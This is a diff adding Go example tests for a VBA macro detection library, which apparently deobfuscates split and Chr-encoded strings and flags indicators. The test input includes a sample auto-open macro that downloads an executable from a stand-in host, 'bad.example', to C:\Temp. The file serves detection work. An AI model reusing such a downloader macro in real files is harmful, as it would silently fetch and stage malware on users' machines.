@@ -1,0 +1,44 @@
+package vbadetect_test
+
+import (
+	"fmt"
+
+	"repro/vbadetect"
+)
+
+// ExampleDeobfuscate shows static recovery of a split-and-encoded payload
+// string without executing the macro.
+func ExampleDeobfuscate() {
+	src := `Sub Run()
+    cmd = "WScr" + "ipt.Sh" & "ell"
+    url = Chr(104) & Chr(116) & Chr(116) & Chr(112)
+End Sub
+`
+	res := vbadetect.Deobfuscate(src)
+	for _, s := range res.Recovered {
+		fmt.Println(s)
+	}
+	// Output:
+	// WScript.Shell
+	// http
+}
+
+// ExampleTriage shows olevba-style triage of a downloader macro.
+func ExampleTriage() {
+	rep := vbadetect.Triage(`Sub AutoOpen()
+    u = "http://bad.example/x.exe"
+    r = URLDownloadToFile(0, u, "C:\Temp\x.exe", 0, 0)
+End Sub
+`)
+	fmt.Println("autoexec:", rep.HasAutoExec())
+	fmt.Println("suspicious:", rep.Suspicious())
+	for _, f := range rep.IOCs() {
+		fmt.Println(f.Kind, f.Value)
+	}
+	// Output:
+	// autoexec: true
+	// suspicious: true
+	// ioc-executable x.exe
+	// ioc-path C:\Temp\x.exe
+	// ioc-url http://bad.example/x.exe
+}
